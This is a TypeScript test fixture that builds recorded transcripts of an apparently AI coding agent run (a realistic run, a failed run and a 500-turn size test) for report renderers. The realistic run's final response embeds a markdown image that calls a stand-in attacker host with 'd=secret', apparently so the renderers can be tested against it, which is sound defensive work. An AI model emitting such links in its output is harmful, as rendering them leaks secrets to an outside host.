/**
 * Recorded transcripts built by hand, for the report renderers: a realistic run, a failed one, and
 * the synthetic 500-turn run of 30,000-character outputs the size guard and its benchmark use.
 */
import { readFileSync } from 'node:fs';
import type {
  CommandFacts,
  Conclusion,
  RecordedEvent,
  RunSettings,
  TranscriptEvent,
} from '../src/transcript.js';

export const SETTINGS: RunSettings = {
  model: 'claude-sonnet-5-5',
  maxTokens: 16_000,
  maxTurns: 30,
  timeLimitMs: 30 * 60_000,
  commandTimeoutMs: 120_000,
  maxCostUsd: 5,
  maxOutput: 30_000,
  workingDirectory: '/home/runner/work/repo/repo',
  allowedCommands: ['ls *', 'cat *', 'grep *', 'npm test *', 'git diff *'],
  deniedCommands: ['git push *'],
  taskSource: "input 'task'",
};

/** Builds a transcript event by event, with a clock that moves as commands and requests take time. */
export class TranscriptBuilder {
  readonly events: RecordedEvent[] = [];
  #at = Date.UTC(2026, 11, 1, 10, 0, 0);
  #turn = 0;
  #calls = 0;
  #lastText = '';

  constructor(task = 'Find the failing test and fix it', settings: RunSettings = SETTINGS) {
    this.#push({
      type: 'start',
      settings,
      task,
      runUrl: 'https://github.com/octo/repo/actions/runs/42',
    });
  }

  #push(event: TranscriptEvent, tookMs = 0): this {
    this.#at += tookMs;
    this.events.push({ ...event, at: this.#at });
    return this;
  }

  /** A request and its response; the response asks for tools when `text` is not final. */
  exchange(text: string, stopReason = 'tool_use', tookMs = 2_000): this {
    this.#turn += 1;
    this.#lastText = text;
    this.#push({
      type: 'request',
      turn: this.#turn,
      maxTokens: 16_000,
      promptTokens: 1_000 * this.#turn,
      promptMeasure: 'counted',
      estimatedUsd: 0.05,
    });
    return this.#push(
      {
        type: 'response',
        turn: this.#turn,
        stopReason,
        text,
        usage: {
          inputTokens: 900,
          outputTokens: 120,
          cacheReadTokens: 4_000,
          cacheWriteTokens: 300,
        },
        costUsd: 0.01,
        durationMs: tookMs,
      },
      tookMs,
    );
  }

  /** A command that ran (exit 0 unless told), with its output. */
  command(command: string, output: string, facts: Partial<CommandFacts> = {}, tookMs = 300): this {
    const id = `toolu_${++this.#calls}`;
    this.#push({ type: 'tool_call', id, name: 'bash', input: { command } });
    const exitCode = facts.exitCode === undefined ? 0 : facts.exitCode;
    const timedOut = facts.timedOut ?? false;
    const shellExited = facts.shellExited ?? false;
    const note = timedOut
      ? '\n[timed out after 120 s]'
      : exitCode !== 0 && exitCode !== null
        ? `\n[exit code: ${exitCode}]`
        : '';
    const truncated = facts.truncated ?? output.length > SETTINGS.maxOutput;
    return this.#push(
      {
        type: 'tool_result',
        id,
        kind: 'command',
        text: (truncated ? `${output.slice(0, 100)}\n[... cut ...]\n` : output) + note,
        isError: note !== '' || shellExited,
        command: {
          command,
          exitCode: timedOut || shellExited ? null : exitCode,
          durationMs: tookMs,
          timedOut,
          shellExited,
          truncated,
          outputChars: output.length,
          ...facts,
        },
        ...(truncated ? { output } : {}),
      },
      tookMs,
    );
  }

  denied(
    command: string,
    code: string,
    offender: string,
    detail = 'matches no allowed pattern',
  ): this {
    const id = `toolu_${++this.#calls}`;
    this.#push({ type: 'tool_call', id, name: 'bash', input: { command } });
    return this.#push({
      type: 'tool_result',
      id,
      kind: 'denied',
      text: `Command denied by policy: '${offender}' ${detail}.`,
      isError: true,
      command: {
        command,
        exitCode: null,
        durationMs: 0,
        timedOut: false,
        shellExited: false,
        truncated: false,
        outputChars: 0,
        refusal: { code, offender, detail },
      },
    });
  }

  event(event: TranscriptEvent): this {
    return this.#push(event);
  }

  /** The result; its text is the last response's unless given. */
  result(conclusion: Conclusion, result = this.#lastText, detail?: string): RecordedEvent[] {
    const start = this.events[0]!.at;
    this.#push({
      type: 'result',
      conclusion,
      result,
      ...(detail ? { detail } : {}),
      turns: this.#turn,
      commands: 0,
      denied: 0,
      usage: { inputTokens: 0, outputTokens: 0, cacheReadTokens: 0, cacheWriteTokens: 0 },
      costUsd: 0,
      estimatedCostUsd: 0,
      durationMs: this.#at - start,
    });
    return this.events;
  }
}

const TEST_OUTPUT = [
  '> repo@1.0.0 test',
  '> jest',
  '',
  'PASS __tests__/parse.test.ts',
  'FAIL __tests__/format.test.ts',
  '  ● formatDate › pads single-digit months',
  '',
  '    expect(received).toBe(expected)',
  '',
  '    Expected: "2026-01-05"',
  '    Received: "2026-1-05"',
  '',
  'Tests: 1 failed, 11 passed, 12 total',
].join('\n');

/** A run a person would see: a look around, a denial, a failing test, a fix, a passing test. */
export function realisticRun(): RecordedEvent[] {
  return new TranscriptBuilder()
    .exchange("I'll start by looking at the repository layout and running the tests.")
    .command(
      'ls -la',
      'total 24\ndrwxr-xr-x  src\ndrwxr-xr-x  __tests__\n-rw-r--r--  package.json\n',
    )
    .command('npm test 2>&1 | tail -20', TEST_OUTPUT, { exitCode: 1 }, 8_400)
    .exchange('The month is not padded. Let me look at the formatter.')
    .command('grep -n "getMonth" src/format.ts', '12:  const month = date.getMonth() + 1;\n')
    .denied(
      'sed -i "s/month}/month.padStart(2)}/" src/format.ts',
      'no-matching-pattern',
      'sed -i "s/month}/month.padStart(2)}/" src/format.ts',
    )
    .exchange('`sed` is not allowed here; I will report the fix instead.')
    .command(
      'cat src/format.ts | head -20',
      'export function formatDate(date: Date): string {\n  const month = date.getMonth() + 1;\n  return `${date.getFullYear()}-${month}-${date.getDate()}`;\n}\n',
    )
    .command('sleep 200', '', { timedOut: true, exitCode: null }, 120_000)
    .exchange(
      [
        '## The failing test',
        '',
        '`formatDate` does not pad the month: `2026-1-05` instead of `2026-01-05`.',
        '',
        '### Fix',
        '',
        '```ts',
        "const month = String(date.getMonth() + 1).padStart(2, '0');",
        '```',
        '',
        'I could not apply it: `sed` is not in the allowed commands. See [the docs](https://docs.github.com/actions) ' +
          'and ![build](https://evil.example/pixel.png?d=secret) — cc @octocat.',
      ].join('\n'),
      'end_turn',
    )
    .result('success');
}

/** A run that failed: the API refused after a few commands. */
export function failedRun(): RecordedEvent[] {
  const builder = new TranscriptBuilder('Upgrade the dependencies')
    .exchange('Checking the outdated packages.')
    .command(
      'npm outdated',
      'Package  Current  Wanted  Latest\njest     29.7.0   29.7.0  30.0.0\n',
      { exitCode: 1 },
    )
    .event({
      type: 'notice',
      level: 'warning',
      message: 'Response 2 reported no token usage; it is counted at its estimate, $0.0500',
    })
    .event({ type: 'error', message: 'Anthropic API error 529 overloaded_error: Overloaded' })
    .event({ type: 'undone', changes: ['.git/hooks/pre-commit: created; removed'] });
  return builder.result(
    'error',
    'Checking the outdated packages.',
    'Anthropic API error 529 overloaded_error: Overloaded',
  );
}

/** The guard's worst case: `turns` requests, each with one command of `chars` characters of output. */
export function hugeRun(turns = 500, chars = 30_000): RecordedEvent[] {
  const builder = new TranscriptBuilder('Read every file');
  const line = 'x'.repeat(99) + '\n';
  const output = line.repeat(Math.ceil(chars / line.length)).slice(0, chars);
  for (let turn = 1; turn <= turns; turn += 1) {
    builder
      .exchange(`Reading part ${turn}.`)
      .command(`cat part-${turn}.txt`, output, { truncated: false });
  }
  builder.exchange('# All read\n\nEvery part was read; the last one ends the story.', 'end_turn');
  return builder.result('success');
}

/** The events of a JSONL transcript file, one parsed line each. */
export function readTranscriptFile(file: string): RecordedEvent[] {
  return readFileSync(file, 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as RecordedEvent);
}
